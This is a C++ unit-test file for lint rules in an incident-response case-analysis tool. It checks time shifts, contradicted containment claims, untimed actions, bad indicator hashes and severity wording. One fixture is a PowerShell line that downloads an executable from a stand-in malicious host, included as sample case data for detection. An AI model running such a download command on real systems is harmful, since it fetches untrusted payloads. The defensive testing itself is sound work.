// Case-level lint rules on hand-built cases (locations as case.yaml gives them).
#include <gtest/gtest.h>

#include "analysis/analyze.hpp"
#include "analysis/lint.hpp"

namespace casefile::analysis {
namespace {

using model::IndicatorType;

Time at(std::string_view text) {
    return *parse_time(text);
}

model::Case base() {
    model::Case c;
    c.alert.ticket_id = "IR-1";
    c.alert.title = "t";
    c.alert.observed_at = at("2025-11-11T18:42:00Z");
    c.alert.tlp = model::Tlp::amber;
    model::RawLog log;
    log.kind = model::LogKind::edr;
    log.text = "{\"Timestamp\": \"2025-11-11T13:42:18Z\"}";
    log.where = {"case.yaml", 20, 5};
    c.logs.push_back(log);
    c.locations["alert.observed_at"] = {"case.yaml", 6, 3};
    return c;
}

std::vector<LintFinding> run(const model::Case& c, LintOptions o = {}) {
    static const ioc::Extractor e = *ioc::Extractor::create();
    return lint_case(c, analyze(c, e), o);
}

bool has(const std::vector<LintFinding>& f, std::string_view rule) {
    return std::any_of(f.begin(), f.end(), [&](const auto& x) { return x.rule == rule; });
}

TEST(Lint, TimeShiftOfWholeHours) {
    auto found = run(base());
    ASSERT_TRUE(has(found, "time-shift"));
    const auto& f = *std::find_if(found.begin(), found.end(),
                                  [](const auto& x) { return x.rule == "time-shift"; });
    EXPECT_EQ(f.where.line, 6);
    EXPECT_EQ(f.severity, LintSeverity::error);
    EXPECT_NE(f.message.find("a whole 5-hour offset looks like local time taken as UTC"),
              std::string::npos);
    model::Case c = base();
    c.alert.observed_at = at("2025-11-11T13:50:00Z"); // eight minutes later: normal
    EXPECT_FALSE(has(run(c), "time-shift"));
    c.alert.observed_at = at("2025-11-11T16:12:00Z"); // 2.5 h: not a zone shift
    EXPECT_FALSE(has(run(c), "time-shift"));
}

TEST(Lint, ContainmentClaimAgainstTheActions) {
    model::Case c = base();
    c.alert.observed_at = at("2025-11-11T13:45:00Z");
    c.summary = "The host was contained within 30 minutes.";
    c.actions.push_back({at("2025-11-11T15:00:00Z"), "Contained host", "a", {}});
    EXPECT_TRUE(has(run(c), "claim-contradicted"));
    c.actions[0].time = at("2025-11-11T14:00:00Z");
    EXPECT_FALSE(has(run(c), "claim-contradicted"));
}

TEST(Lint, UntimedEvidenceAndActions) {
    model::Case c = base();
    c.logs[0].text = "Logon Type: 10";
    c.actions.push_back({std::nullopt, "Reset password", "", {"case.yaml", 30, 5}});
    const auto found = run(c);
    EXPECT_TRUE(has(found, "untimed-evidence"));
    EXPECT_TRUE(has(found, "action-without-time"));
    EXPECT_TRUE(has(found, "action-without-actor"));
}

TEST(Lint, IndicatorRules) {
    model::Case c = base();
    c.indicators.push_back({IndicatorType::ipv4, "10.1.2.3", "", "", {"case.yaml", 40, 5}});
    c.indicators.push_back({IndicatorType::ipv4, "185.199.109.15", "", "", {"case.yaml", 41, 5}});
    c.indicators.push_back({IndicatorType::sha256, "abc123", "", "", {"case.yaml", 42, 5}});
    c.indicators.push_back({IndicatorType::md5, "zz", "", "a.exe", {"case.yaml", 43, 5}});
    c.commands.push_back({model::ScriptLanguage::powershell,
                          "",
                          "iwr https://evil-cdn.com/p.exe -OutFile p.exe",
                          "",
                          {},
                          false});
    const auto found = run(c);
    EXPECT_TRUE(has(found, "private-ip-ioc"));
    EXPECT_TRUE(has(found, "warninglist-ioc"));
    EXPECT_TRUE(has(found, "invalid-hash"));
    EXPECT_TRUE(has(found, "unbound-hash"));
    EXPECT_TRUE(has(found, "missing-ioc"));
    size_t invalid = 0;
    for (const auto& f : found) {
        invalid += f.rule == "invalid-hash" ? 1 : 0;
        EXPECT_NE(f.rule, "invalid-indicator") << f.message; // covered by invalid-hash
    }
    EXPECT_EQ(invalid, 2u);
}

TEST(Lint, DisabledRulesAndUnknownIds) {
    model::Case c = base();
    c.lint.disable = {"time-shift", "no-such-rule"};
    c.lint.where = {"case.yaml", 50, 1};
    auto found = run(c);
    EXPECT_FALSE(has(found, "time-shift"));
    EXPECT_TRUE(has(found, "unknown-rule"));
    LintOptions o;
    o.disable = {"unknown-rule"};
    EXPECT_FALSE(has(run(c, o), "unknown-rule"));
}

TEST(Lint, SeverityWording) {
    model::Case c = base();
    c.alert.severity = model::Severity::low;
    c.summary = "Ransomware encrypted the share.";
    EXPECT_TRUE(has(run(c), "severity-wording"));
    c.summary = "No ransomware was found.";
    EXPECT_FALSE(has(run(c), "severity-wording"));
}

} // namespace
} // namespace casefile::analysis
